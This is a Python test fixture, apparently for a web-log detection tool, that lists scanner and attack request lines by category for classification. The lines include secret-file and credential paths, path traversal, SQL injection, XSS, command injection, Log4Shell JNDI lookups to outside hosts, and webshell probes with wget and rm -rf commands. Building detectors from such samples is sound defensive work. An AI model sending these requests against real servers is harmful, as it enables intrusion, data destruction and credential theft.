# Copyright (c) 2026 The bottomup.security authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Requests that robots really send, by category: what rails_day plants. Written for this test, not taken from the signatures' examples."""

from __future__ import annotations

from rails_day import Probe

_REQUESTS = {
    "secrets": """
/.env
/.env.local
/api/.env
/laravel/.env.bak
/.aws/credentials
/.ssh/id_rsa
/.docker/config.json
/.npmrc
/.vscode/sftp.json
/.DS_Store
/.htpasswd
/config.json
/config.yml
/config.inc.php
/wp-config.php.bak
/server.key
/secrets.yml
/credentials.json
/error.log
/logs/access.log
/web.config
/composer.json
/docker-compose.yml
/%2eenv
/static//.env
""",
    "vcs_backup": """
/.git/config
/.git/HEAD
/.git/index
/.svn/entries
/.hg/store
/.gitignore
/backup.sql
/dump.sql.gz
/db.sqlite3
/backup.zip
/www.tar.gz
/site.rar
/index.php.old
/index.php~
/shop.example.com.zip
/old/database.sql
/.GIT/config
/%2egit/config
""",
    "rails": """
/config/database.yml
/config/master.key
/config/credentials.yml.enc
/rails/info/properties
/rails/info/routes
/rails/mailers
/sidekiq
/letter_opener
/Gemfile
/Gemfile.lock
/log/production.log
/.bundle/config
/.ruby-version
/config.ru
/db/schema.rb
/console
/assets/..%2f..%2fconfig/database.yml
/assets/file:%2f%2f/etc/passwd
""",
    "traversal": """
/download?file=../../../../etc/passwd
/download?file=..%2f..%2f..%2fetc%2fpasswd
/download?path=....//....//etc/passwd
/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd
/images/../../etc/passwd
/..%252f..%252fetc/passwd
/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd
/index.php?page=php://filter/convert.base64-encode/resource=index
/view?doc=/proc/self/environ
/..;/manager/html
/static../config/app.rb
/read?f=C:%5CWindows%5Cwin.ini
/fetch?url=http://169.254.169.254/latest/meta-data/iam/
/a.php?inc=http://198.51.100.9/shell.txt?
""",
    "sqli": """
/products?id=1%27%20or%20%271%27=%271
/products?id=1+union+select+null,null,version()--
/products?id=1/**/union/**/select/**/1,2,3
/products?id=1;drop+table+users
/products?id=1+and+sleep(5)
/products?id=(select+count(*)+from+information_schema.tables)
/products?id=1%27;waitfor+delay+%270:0:5%27--
/products?id=extractvalue(1,concat(0x7e,version()))
/products?id=1+or+1=1
/products?id=%27+and+1=1--+-
/login?user=admin%27--
/products?sort=(case+when+(1=1)+then+name+else+price+end)
""",
    "xss": """
/search?q=<script>alert(1)</script>
/search?q=%3Cimg%20src=x%20onerror=alert(1)%3E
/search?q=%22%3E%3Csvg/onload=prompt(1)%3E
/search?q=javascript:alert(document.cookie)
/search?q=%3ciframe%20src=//x%3e
/search?q=%2522%253E%253Cscript%253E
""",
    "injection": """
/ping?host=127.0.0.1;cat%20/etc/passwd
/ping?host=|id
/ping?host=$(whoami)
/x?cmd=wget%20http://198.51.100.4/a.sh
/index.php?s=/index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=phpinfo
/?name={{7*7}}
/?x=${7*7}
/?q=%3C%25=%20system(%27id%27)%20%25%3E
/?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input
/go?to=%0d%0aSet-Cookie:%20a=b
""",
    "log4shell": """
/?x=${jndi:ldap://198.51.100.7:1389/a}
/?x=$%7Bjndi:dns://x.example.net%7D
/${${lower:j}ndi:rmi://x/a}
""",
    "shellshock": """
/cgi-bin/test?x=()%20{%20:;};%20/bin/bash
""",
    "webshell": """
/c99.php
/uploads/r57.php
/shell.php
/wso.php
/alfa.php
/wp-content/uploads/cmd.php
/shell?cd+/tmp;rm+-rf+*;wget+198.51.100.5/jaws
/x.php?cmd=whoami
""",
    "cve": """
/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php
/_ignition/execute-solution
/actuator/env
/actuator/gateway/routes
/solr/admin/info/system?wt=json
/manager/html
/boaform/admin/formLogin
/GponForm/diag_Form?images/
/HNAP1/
/owa/auth/logon.aspx
/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession
/setup.cgi?next_file=netgear.cfg
/cgi-bin/luci/;stok=/locale
/autodiscover/autodiscover.json?@foo.com
/?class.module.classLoader.URLs%5B0%5D=0
/_cat/indices
/v2/_catalog
/server-status
/+CSCOE+/logon.html
/tmui/login.jsp
""",
    "cms_admin": """
/wp-login.php
/wp-admin/
/xmlrpc.php
/wp-includes/wlwmanifest.xml
/blog/wp-json/wp/v2/users
/wordpress/
/phpmyadmin/
/phpMyAdmin/index.php
//pma/scripts/setup.php
/adminer.php
/administrator/index.php
/admin.php
/%70hpmyadmin/
/index.php
/login.asp
/user/login
/typo3/
/owncloud/status.php
/pma/
""",
}

_LINES = (
    Probe("open_proxy", "CONNECT www.example.net:443 HTTP/1.1"),
    Probe("open_proxy", "GET http://www.example.net/ip4.php HTTP/1.1"),
    Probe("secrets", "HEAD /.env HTTP/1.1"),
    Probe("cms_admin", "POST /xmlrpc.php HTTP/1.1"),
)


def probes() -> list[Probe]:
    """Return all requests, each as the request line of a log."""
    found = [
        Probe(category, f"GET {target} HTTP/1.1".replace('"', "\\x22")) for category, targets in _REQUESTS.items() for target in targets.split("\n") if target
    ]
    return found + list(_LINES)
